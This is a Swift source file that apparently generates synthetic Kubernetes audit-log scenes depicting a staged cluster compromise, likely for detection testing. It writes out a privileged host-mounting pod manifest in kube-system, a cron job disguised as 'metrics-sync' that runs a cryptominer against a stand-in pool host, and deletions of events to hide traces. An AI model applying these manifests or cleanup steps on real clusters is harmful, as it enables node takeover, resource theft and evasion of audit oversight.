// The second half: from the cluster to its machines, and what is done with them.
extension StoryScript {
  private static let debugPod = "node-debug"
  private static let miner = "registry.example.net/xmr/hashworker:6.22.1"

  // 09:14: a pod that owns the machine it runs on, applied from a file.
  var nodeAccess: [Scene] {
    let image = "docker.io/library/alpine:3.22"
    let source =
      #"{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"annotations\":{},\"name\":\"node-debug\",\"namespace\":\"kube-system\"},\"spec\":{\"containers\":[{\"command\":[\"sleep\",\"86400\"],\"image\":\"\#(image)\",\"name\":\"shell\",\"securityContext\":{\"privileged\":true},\"volumeMounts\":[{\"mountPath\":\"/host\",\"name\":\"root\"}]}],\"hostNetwork\":true,\"hostPID\":true,\"volumes\":[{\"hostPath\":{\"path\":\"/\"},\"name\":\"root\"}]}}\n"#
    let body = compact(
      #"""
      {"kind":"Pod","apiVersion":"v1","metadata":{"name":"node-debug","namespace":"kube-system",
      "annotations":{"kubectl.kubernetes.io/last-applied-configuration":"\#(source)"}},
      "spec":{"volumes":[{"name":"root","hostPath":{"path":"/","type":""}}],
      "containers":[{"name":"shell","image":"\#(image)","command":["sleep","86400"],"resources":{},
      "volumeMounts":[{"name":"root","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log",
      "terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],
      "restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","hostNetwork":true,"hostPID":true,
      "securityContext":{},"schedulerName":"default-scheduler","enableServiceLinks":true},"status":{}}
      """#)
    let pod = ObjectReference("pods", in: "kube-system", Self.debugPod)
    return [
      Scene(
        second: 4_451.8,
        exchange: AuditExchange("get", pod, by: StoryCast.usurper, outcome: .notFound)),
      Scene(
        second: 4_452.1,
        exchange: AuditExchange(
          "create", pod, by: StoryCast.usurper,
          query: "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          path: "/api/v1/namespaces/kube-system/pods", level: .requestResponse, outcome: .code(201),
          request: body, response: body)),
      placement(of: Self.debugPod, at: 4_452.4),
      pulling(image, for: Self.debugPod, container: "shell", at: 4_453.3),
      Scene(
        second: 4_573.0,
        exchange: shell(in: Self.debugPod, of: "kube-system", container: "shell", lasting: 341)),
    ]
  }

  // 09:24: the cron job; 09:30, 09:40, 09:50: it works.
  var mining: [Scene] {
    let body = cronJob(
      "metrics-sync", in: "kube-system", schedule: "*/10 * * * *", image: Self.miner,
      command: "hashworker --url pool.example.net:3333 --donate-level 0 --threads 8 && sleep 1")
    let creation = Scene(
      second: 5_053.7,
      exchange: creation(
        "cronjobs", in: "kube-system", "metrics-sync", group: "batch", body, by: StoryCast.usurper))
    return [creation]
      + [90, 100, 110].flatMap { minute -> [Scene] in
        let job = "metrics-sync-\(firstMinute + minute)"
        let pod = minerPod(minute: minute)
        let start = Double(minute * 60)
        return [
          Scene(
            second: start + 0.2,
            exchange: AuditExchange(
              "create", ObjectReference("jobs", in: "kube-system", job, group: "batch"),
              by: .controller("cronjob-controller"),
              path: "/apis/batch/v1/namespaces/kube-system/jobs",
              outcome: .code(201))),
          Scene(
            second: start + 0.4,
            exchange: AuditExchange(
              "create", ObjectReference("pods", in: "kube-system"),
              by: .controller("job-controller"),
              outcome: .code(201))),
          placement(of: pod, at: start + 0.6),
          pulling(Self.miner, for: pod, container: "step-0", at: start + 1.5),
        ]
      }
  }

  // 09:33: the events that would tell are deleted, and the pod with them.
  var cleanUp: [Scene] {
    let by = StoryCast.usurper
    let traces = [Self.debugPod, minerPod(minute: 90)].map { pod in
      AuditExchange(
        "delete", ObjectReference("events", in: "kube-system", eventName(of: pod)), by: by)
    }
    return paced(
      from: 5_602.5, every: 2.4,
      [
        AuditExchange(
          "list", ObjectReference("events", in: "kube-system"), by: by, query: "?limit=500")
      ]
        + traces
        + [
          AuditExchange("delete", ObjectReference("pods", in: "kube-system", Self.debugPod), by: by)
        ])
  }

  private func minerPod(minute: Int) -> String {
    var name = Array("metrics-sync-\(firstMinute + minute)-".utf8)
    name.appendNameSuffix(SplitMix64.mixed(UInt64(minute)), length: 5)
    return String(decoding: name, as: UTF8.self)
  }

  private func eventName(of pod: String) -> String {
    var name = Array("\(pod).".utf8)
    let seed = pod.utf8.reduce(UInt64(0)) { SplitMix64.mixed($0 ^ UInt64($1)) }
    name.appendHex(seed, digits: 16)
    return String(decoding: name, as: UTF8.self)
  }

  private func placement(of pod: String, at second: Double) -> Scene {
    Scene(
      second: second,
      exchange: AuditExchange(
        "create", ObjectReference("pods", in: "kube-system", pod, subresource: "binding"),
        by: .component("kube-scheduler", purpose: "scheduler"), outcome: .code(201)))
  }

  private func pulling(_ image: String, for pod: String, container: String, at second: Double)
    -> Scene
  {
    let kubelet = Caller(
      #"{"username":"system:node:\#(node)","groups":["system:nodes","system:authenticated"]}"#,
      from: [nodeAddress], agent: Vocabulary.kubelet)
    let body = compact(
      #"""
      {"kind":"Event","apiVersion":"v1","metadata":{"name":"\#(eventName(of: pod))","namespace":"kube-system"},
      "involvedObject":{"kind":"Pod","namespace":"kube-system","name":"\#(pod)","uid":"<uid>","apiVersion":"v1",
      "resourceVersion":"<resourceVersion>","fieldPath":"spec.containers{\#(container)}"},"reason":"Pulling",
      "message":"Pulling image \"\#(image)\"","source":{"component":"kubelet","host":"\#(node)"},
      "firstTimestamp":"<stagedSecond>","lastTimestamp":"<stagedSecond>","count":1,"type":"Normal","eventTime":null,
      "reportingComponent":"kubelet","reportingInstance":"\#(node)"}
      """#)
    return Scene(
      second: second,
      exchange: AuditExchange(
        "create", ObjectReference("events", in: "kube-system", eventName(of: pod)), by: kubelet,
        path: "/api/v1/namespaces/kube-system/events", level: .request, outcome: .code(201),
        request: body))
  }
}
